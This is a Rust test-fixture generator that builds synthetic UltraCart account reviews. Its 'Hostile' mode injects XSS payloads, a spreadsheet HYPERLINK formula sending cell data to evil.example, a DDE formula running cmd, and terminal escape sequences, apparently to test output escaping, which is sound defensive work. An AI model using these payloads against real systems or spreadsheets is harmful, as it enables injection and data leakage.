//! Generates the review of an account. The same arguments always give the same data.

use std::sync::Arc;
use std::time::Duration;

use jiff::{SignedDuration, Timestamp};
use ultracart_client::audit::{Facts, History, Review, Source};
use ultracart_model::{
    Group, GroupUserMembership, LinkedAccount, Permission, User, UserGroupMembership, UserLogin,
};

/// Kind of account to generate.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Style {
    /// An ordinary account.
    Usual,
    /// An account whose names, logins and most other texts attempt injections.
    Hostile,
    /// An ordinary account of which the list of groups and some login histories could not be read.
    Incomplete,
    /// An account whose users hold random permissions, so that hardly any two users have equal access.
    Scattered,
}

const PERMISSIONS: [(&str, &[&str]); 7] = [
    (
        "Orders",
        &["orders_view", "orders_edit", "orders_refund", "orders_export", "orders_cancel", "orders_import"],
    ),
    ("Items", &["items_view", "items_edit", "items_delete", "items_pricing", "items_import", "items_export"]),
    (
        "Customers",
        &["customers_view", "customers_edit", "customers_export", "customers_merge", "customers_delete"],
    ),
    (
        "Marketing",
        &["coupons_view", "coupons_edit", "email_campaigns", "email_lists", "affiliates", "storefronts"],
    ),
    (
        "Reports",
        &["reports_sales", "reports_tax", "reports_inventory", "reports_payouts", "reports_schedule"],
    ),
    ("Fulfillment", &["shipments_view", "shipments_edit", "returns", "distribution_centers", "labels"]),
    (
        "Configuration",
        &[
            "users_manage",
            "groups_manage",
            "payments_setup",
            "tax_setup",
            "webhooks",
            "api_access",
            "audit_log",
        ],
    ),
];

/// Each group has a name, a percentage, and the prefixes of the permissions that it grants. The percentage is
/// the share of users who get the group as their first group.
const GROUPS: [(&str, u64, &[&str]); 12] = [
    (
        "Customer service",
        30,
        &["orders_v", "orders_e", "orders_r", "orders_c", "customers_v", "customers_e", "returns"],
    ),
    ("Warehouse", 18, &["shipments", "returns", "labels", "distribution", "items_v"]),
    ("Catalogue", 11, &["items"]),
    ("Marketing", 10, &["coupons", "email", "affiliates", "storefronts", "reports_s"]),
    ("Accounting", 8, &["reports", "orders_view", "orders_exp", "tax"]),
    ("Management", 5, &["reports", "orders_view", "items_view", "customers_view", "shipments_view", "audit"]),
    ("Integrations", 4, &["api", "webhooks", "orders_exp", "orders_imp", "items_exp", "items_imp"]),
    ("Returns desk", 6, &["returns", "orders_view", "orders_refund", "labels"]),
    ("Wholesale", 5, &["orders_view", "orders_edit", "customers_view", "customers_edit", "coupons_view"]),
    ("Administrators", 2, &["o", "i", "c", "e", "a", "s", "r", "d", "l", "u", "g", "p", "t", "w"]),
    ("Seasonal 2023", 0, &["orders_view", "shipments_view"]),
    ("Auditors", 1, &["reports", "audit"]),
];

const FIRST: [&str; 24] = [
    "Ada", "Ben", "Clara", "Dmitri", "Elena", "Farid", "Grace", "Hiro", "Ines", "Jonas", "Katya", "Liam",
    "Mei", "Noor", "Olga", "Paul", "Quinn", "Rosa", "Samir", "Tessa", "Umar", "Vera", "Wendell", "Zoë",
];
const LAST: [&str; 25] = [
    "Abara", "Bauer", "Castillo", "Dubois", "Eriksen", "Fischer", "Garcia", "Haddad", "Ivanova", "Jensen",
    "Kowalski", "Laurent", "Moreau", "Nakamura", "Okafor", "Petrov", "Quiroga", "Rossi", "Sato", "Tanaka",
    "Ueda", "Vargas", "Weber", "Yilmaz", "Zhang",
];
const AGENTS: [&str; 4] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
];
const HOSTILE: [&str; 16] = [
    "<script>window.hacked=1</script>",
    "\"><img src=x onerror=\"window.hacked=1\">",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "gpj.exe\u{202e}exe.jpg",
    "nul\0byte",
    "'><svg onload=window.hacked=1>",
    "</script><script>window.hacked=1</script>",
    "</style><style>body{display:none}</style>",
    "{{constructor.constructor('window.hacked=1')()}}",
    "javascript:window.hacked=1",
    "line\r\nbreak\ttab",
    "]]><!--",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u{1b}[2J\u{1b}]0;title\u{7}",
    "مرحبا بالعالم",
    "z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}",
];

/// Pseudorandom numbers by xorshift*, the same on every platform.
struct Random(u64);

impl Random {
    fn below(&mut self, limit: u64) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        (self.0.wrapping_mul(0x2545_F491_4F6C_DD1D) >> 33) % limit
    }

    fn chance(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }

    fn pick<T: Copy>(&mut self, from: &[T]) -> T {
        let at = self.below(u64::try_from(from.len()).unwrap_or(1));
        from[usize::try_from(at).unwrap_or(0)]
    }
}

/// Returns a small review to check by hand, with three users and two groups.
#[cfg(test)]
pub(crate) fn small() -> Review {
    let permission = |name: &str, selected| Permission::new().permission_name(name).selected(selected);
    let entry = |oid, member| UserGroupMembership::new().group_oid(oid).member(member);
    let login = |at: &str, ip: &str| UserLogin::new().login_dts(at).ip_address(ip).user_agent("curl/8.5.0");
    let taken_at: Timestamp = "2025-06-30T12:00:00Z".parse().unwrap_or_default();
    let history =
        |source, logins: Vec<UserLogin>| History::Read { source, read_at: taken_at, logins: logins.into() };
    let ada = User::new()
        .user_id(7)
        .login("ada")
        .full_name("Ada, Countess of \"Lovelace\"")
        .email("ada@example.com")
        .phone("+1 770 555 0100")
        .otp_serial_number("VSST1")
        .groups(vec![entry(1, true), entry(2, false)])
        .permissions(vec![
            permission("orders", true),
            permission("refunds", true),
            permission("items", false),
        ]);
    let ben = User::new()
        .user_id(8)
        .login("=1+1")
        .full_name("Ben")
        .groups(vec![entry(1, false)])
        .permissions(vec![permission("api_access", true)])
        .linked_accounts(vec![LinkedAccount::new().merchant_id("DEMO2").company("Demo Inc").selected(true)])
        .login_histories(vec![login("2025-06-28T23:00:00-04:00", "192.0.2.1")]);
    let listed = ben.login_histories.clone().unwrap_or_default();
    let eve = User::new().user_id(9).login("eve");
    let clerks = Group::new()
        .group_oid(1)
        .name("Clerks")
        .permissions(vec![permission("orders", true), permission("refunds", false)])
        .users(vec![GroupUserMembership::new().user_id(7).member(true)]);
    Review::new(Facts {
        taken_at,
        base_url: "https://secure.ultracart.com/rest/v2".to_owned(),
        dormant_after: Duration::from_hours(90 * 24),
        calls: 4,
        users: vec![
            (
                Arc::new(ada),
                history(
                    Source::Call,
                    vec![login("2025-06-30T09:00:00+00:00", "192.0.2.1"), login("@now", "-")],
                ),
            ),
            (Arc::new(ben), history(Source::List, listed)),
            (Arc::new(eve), History::Unreadable { reason: "getUserLogins: 500: broken".to_owned() }),
        ],
        groups: Ok(vec![
            Arc::new(clerks),
            Arc::new(Group::new().group_oid(2).name("Seasonal").users(Vec::new())),
        ]),
        notes: vec!["a note".to_owned()],
    })
}

/// Returns a review of an account with this number of users.
pub(crate) fn review(users: usize, style: Style) -> Review {
    Review::new(facts(users, style))
}

/// Returns the generated data from which [`review`] creates its review.
pub(crate) fn facts(users: usize, style: Style) -> Facts {
    let mut random = Random(42);
    let taken_at = Timestamp::from_second(1_751_284_800).unwrap_or_default();
    let mut members = vec![Vec::new(); GROUPS.len()];
    let users: Vec<(Arc<User>, History)> = (0..users)
        .map(|position| {
            let (user, history) = user(position, style, taken_at, &mut random);
            for (group, entry) in user.groups.iter().flatten().enumerate() {
                let member = GroupUserMembership::new().member(entry.member == Some(true));
                members[group].push(match user.user_id {
                    Some(id) => member.user_id(id),
                    None => member,
                });
            }
            (Arc::new(user), history)
        })
        .collect();
    let groups = (1..).zip(GROUPS).zip(members).map(|((oid, (name, _, grants)), members)| {
        let name = if style == Style::Hostile { hostile(oid, name) } else { name.to_owned() };
        Arc::new(Group::new().group_oid(oid).name(name).permissions(granted(grants, style)).users(members))
    });
    let calls = u64::try_from(users.len()).unwrap_or(0) + 2;
    Facts {
        taken_at,
        base_url: "https://secure.ultracart.com/rest/v2".to_owned(),
        dormant_after: Duration::from_hours(90 * 24),
        calls,
        users,
        groups: if style == Style::Incomplete {
            Err("getGroups: 500: something went wrong (after 5 attempts)".to_owned())
        } else {
            Ok(groups.collect())
        },
        notes: if style == Style::Hostile { HOSTILE.map(str::to_owned).into() } else { Vec::new() },
    }
}

fn hostile(n: i32, usual: &str) -> String {
    let n = usize::try_from(n).unwrap_or(0);
    if n % 17 == 16 { "A".repeat(10_000) } else { format!("{}{n} {usual}", HOSTILE[n % HOSTILE.len()]) }
}

fn granted(prefixes: &[&str], style: Style) -> Vec<Permission> {
    all_permissions(style)
        .into_iter()
        .map(|permission| {
            let name = permission.permission_name.clone().unwrap_or_default();
            permission.selected(prefixes.iter().any(|prefix| {
                name.contains(prefix) && name.starts_with(&prefix[..1])
                    || style == Style::Hostile && name.contains(prefix)
            }))
        })
        .collect()
}

fn all_permissions(style: Style) -> Vec<Permission> {
    let mut all = Vec::new();
    for (number, (group, names)) in (0..).zip(PERMISSIONS) {
        for name in names {
            let name = if style == Style::Hostile { hostile(number, name) } else { (*name).to_owned() };
            all.push(Permission::new().permission_group(group).permission_name(name).selected(false));
        }
    }
    all
}

fn user(position: usize, style: Style, taken_at: Timestamp, random: &mut Random) -> (User, History) {
    let number = i32::try_from(position).unwrap_or(0) + 1;
    let (first, last) =
        (FIRST[position % FIRST.len()], LAST[(position * 7 + position / FIRST.len()) % LAST.len()]);
    let again = position / (FIRST.len() * LAST.len());
    let suffix = if again > 0 { again.to_string() } else { String::new() };
    let mut login = format!("{}.{}{suffix}", first.to_lowercase().replace('ë', "e"), last.to_lowercase());
    let mut full_name = format!("{first} {last}");
    if style == Style::Hostile {
        login = hostile(number, &login);
        full_name = hostile(number + 3, &full_name);
    }
    let mut user = User::new()
        .user_id(1_000 + number)
        .email(format!("{login}@example.com"))
        .login(login.clone())
        .full_name(full_name)
        .phone(format!("+1 770 555 {:04}", random.below(10_000)));
    if !random.chance(14) {
        user.otp_serial_number = Some(format!("VSST{:08}", random.below(100_000_000)).into());
    }
    // Most users are in one group, some in two, a few in none.
    let mut mine: Vec<usize> = Vec::new();
    let mut at = random.below(100);
    for (group, (_, share, _)) in GROUPS.iter().enumerate() {
        if at < *share {
            mine.push(group);
            break;
        }
        at = at.saturating_sub(*share);
    }
    if random.chance(18) {
        mine.push(usize::try_from(random.below(9)).unwrap_or(0));
    }
    if random.chance(2) {
        mine.clear();
    }
    let groups = (1..).zip(GROUPS).map(|(oid, (name, ..))| {
        let group = usize::try_from(oid - 1).unwrap_or(0);
        let name = if style == Style::Hostile { hostile(oid, name) } else { name.to_owned() };
        UserGroupMembership::new().group_oid(oid).name(name).member(mine.contains(&group))
    });
    user = user.groups(groups.collect::<Vec<_>>());
    let mut permissions = all_permissions(style);
    if random.chance(11) {
        for _ in 0..=random.below(4) {
            let at = usize::try_from(random.below(40)).unwrap_or(0) % permissions.len();
            permissions[at].selected = Some(true);
        }
    }
    if style == Style::Scattered {
        for permission in &mut permissions {
            permission.selected = Some(random.chance(40));
        }
    }
    user = user.permissions(permissions);
    if mine.contains(&6) && random.chance(50) {
        user = user.api_ip_address_masks(vec!["203.0.113.0/24".into()]);
    }
    if random.chance(3) {
        let company = if style == Style::Hostile { HOSTILE[0] } else { "Demo Outlet Inc" };
        user = user
            .linked_accounts(vec![LinkedAccount::new().merchant_id("DEMO2").company(company).selected(true)]);
    }
    let history = history(position, &login, style, taken_at, random);
    (user, history)
}

fn history(position: usize, login: &str, style: Style, taken_at: Timestamp, random: &mut Random) -> History {
    if style == Style::Incomplete && random.chance(4) {
        return History::Unreadable {
            reason: "getUserLogins: no response within 60s (after 5 attempts)".to_owned(),
        };
    }
    let mut logins = Vec::new();
    let activity = if random.chance(12) { 0 } else { 20 + random.below(60) };
    let night_owl = random.chance(6);
    let home = format!("198.51.{}.{}", 100 + position % 7, position % 250 + 1);
    let agent = random.pick(&AGENTS);
    let midnight = taken_at.as_second() / 86_400 * 86_400;
    for day in (0..90_i64).rev() {
        let weekend = matches!((midnight / 86_400 - day + 4).rem_euclid(7), 0 | 6);
        if !random.chance(if weekend { activity / 12 } else { activity / 2 }) {
            continue;
        }
        let hour = if night_owl && random.chance(60) {
            20 + random.below(7)
        } else {
            8 + random.below(6) + random.below(5)
        };
        let local = midnight - day * 86_400 + i64::try_from(hour * 3_600 + random.below(3_600)).unwrap_or(0);
        let at = Timestamp::from_second(local).unwrap_or_default() + SignedDuration::from_hours(4);
        if at >= taken_at {
            continue;
        }
        let dts =
            Timestamp::from_second(local).unwrap_or_default().strftime("%Y-%m-%dT%H:%M:%S-04:00").to_string();
        let ip = if random.chance(70) { "203.0.113.7".to_owned() } else { home.clone() };
        let mut entry = UserLogin::new().login(login).login_dts(dts).ip_address(ip).user_agent(agent);
        if style == Style::Hostile {
            entry = entry.ip_address(random.pick(&HOSTILE)).user_agent(random.pick(&HOSTILE));
            if random.chance(20) {
                entry = entry.login_dts(random.pick(&HOSTILE));
            }
        }
        logins.push(entry);
    }
    History::Read { source: Source::Call, read_at: taken_at, logins: logins.into() }
}
